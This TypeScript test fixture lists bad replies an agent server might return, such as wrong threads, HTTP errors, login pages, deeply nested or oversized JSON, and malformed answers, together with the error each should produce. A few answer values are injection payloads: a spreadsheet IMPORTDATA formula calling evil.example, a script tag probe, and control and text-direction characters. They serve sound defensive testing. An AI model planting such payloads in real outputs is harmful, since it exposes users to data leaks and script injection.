/** What the agent's server, or anything in front of it, may send back for a question, and what must become of its row. */
import { answered } from '../support/agent-server/states';
import type { Sent } from './judge-replies';

export const ODD_QUERY = 'Where is it odd?';

/** What comes in place of the chat's stream or of the thread's state, and the row's error; none if it is answered nevertheless. */
type AgentReply = readonly [inPlaceOf: 'chat' | 'state', what: string, sent: Sent, error?: RegExp];

const STATE = answered(ODD_QUERY, 'The answer is 9,587.2 hectares.');
const stateOf = (state: unknown): Sent => ({
  status: 200,
  body: JSON.stringify({ state: typeof state === 'string' ? state : JSON.stringify(state) }),
});
/** A login page, possibly a proxy's. */
export const PAGE: Sent = { status: 200, body: '<!DOCTYPE html><html><body>Log in</body></html>' };
const deep = (depth: number): string => `${'{"messages":'.repeat(depth)}1${'}'.repeat(depth)}`;

const NO_MESSAGES = /^the agent failed: the agent’s state has no messages of its own, twice$/;

export const AGENT_REPLIES: readonly AgentReply[] = [
  ['state', 'a state', stateOf(STATE)],
  ['state', 'a state that is JSON, not a text', { status: 200, body: JSON.stringify({ state: STATE }) }],
  [
    'state',
    'a state of another thread',
    { status: 200, body: JSON.stringify({ thread_id: 'another', state: STATE }) },
    /^the agent failed: the agent’s state is of another thread: another$/,
  ],
  ['state', 'a state without messages', stateOf({ ...STATE, messages: [] }), NO_MESSAGES],
  ['state', 'a state with null for messages', stateOf({ ...STATE, messages: null }), NO_MESSAGES],
  ['state', 'a state whose messages are a text', stateOf({ ...STATE, messages: 'none' }), NO_MESSAGES],
  [
    'state',
    'a state whose messages are numbers',
    stateOf({ ...STATE, messages: [1, 2] }),
    /^the agent was interrupted twice$/,
  ],
  ['state', 'a state without a last answer', stateOf(answered(ODD_QUERY, ''))],
  ['state', 'an empty state', stateOf({}), NO_MESSAGES],
  ['state', 'null for a state', { status: 200, body: '{"state":null}' }, NO_MESSAGES],
  ['state', 'a list for a state', stateOf([]), /^the agent failed: the agent’s state is not a JSON object$/],
  [
    'state',
    'a state that is cut off',
    stateOf(JSON.stringify(STATE).slice(0, 200)),
    /^the agent failed: the agent’s state is not JSON; it begins with “/,
  ],
  ['state', 'a state of 20,000 levels', stateOf(deep(20_000)), NO_MESSAGES],
  [
    'state',
    'a page for a state',
    PAGE,
    /not the agent answers at this address but a page \(a proxy or a login\?\)/,
  ],
  [
    'state',
    'nothing for a state',
    { status: 200, body: '' },
    /^the agent failed: the agent’s state is not a state of a thread; it begins with “”$/,
  ],
  [
    'state',
    'HTTP 404 for a state',
    { status: 404, body: '{"detail":"Thread not found"}' },
    /^the agent does not know the thread [-\da-f]{36} that it was asked in$/,
  ],
  [
    'state',
    'HTTP 500 for a state',
    { status: 500, body: '{"detail":"Internal Server Error"}' },
    /^the agent failed: the agent’s state could not be fetched: HTTP 500$/,
  ],
  [
    'state',
    'nobody for a state',
    { failure: 'Address unavailable: x' },
    /^the agent failed: the agent’s state could not be fetched: Address unavailable: x$/,
  ],
  [
    'state',
    'a selection that is not a list',
    stateOf({ ...STATE, aoi_selection: 'BRA' }),
    /^the agent state cannot be read: (aoi_selection|dataset) must be an object$/,
  ],
  [
    'state',
    'a dataset that is a list',
    stateOf({ ...STATE, dataset: [4] }),
    /^the agent state cannot be read: (aoi_selection|dataset) must be an object$/,
  ],
  ['state', 'charts without an insight', stateOf({ ...STATE, charts_data: [{}] })],
  ['state', 'a formula for an answer', stateOf(answered(ODD_QUERY, '=IMPORTDATA("https://evil.example")'))],
  ['state', 'a script for an answer', stateOf(answered(ODD_QUERY, '<script>alert(1)</script>'))],
  ['state', 'an answer of 200,000 characters', stateOf(answered(ODD_QUERY, 'a '.repeat(100_000)))],
  ['state', 'control characters in an answer', stateOf(answered(ODD_QUERY, 'a\u0000b\u001b[31mc\u202ed'))],
  ['state', 'an answer that is half a character', stateOf(answered(ODD_QUERY, 'a\ud83d'))],
  ['chat', 'nothing for the chat', { status: 200, body: '' }],
  ['chat', 'lines that are not JSON', { status: 200, body: 'a\nb\n' }],
  ['chat', 'a line of 1 MB', { status: 200, body: `{"node":"x","update":"${'a'.repeat(1_000_000)}"}\n` }],
  [
    'chat',
    'HTTP 422 for the chat',
    { status: 422, body: '{"detail":[{"msg":"bad query"}]}' },
    /^the agent refuses the question \(HTTP 422\): “bad query”$/,
  ],
  ['chat', 'HTTP 500 for the chat', { status: 500, body: '{"detail":"Internal Server Error"}' }],
  ['chat', 'nobody for the chat', { failure: 'Address unavailable: x' }],
];
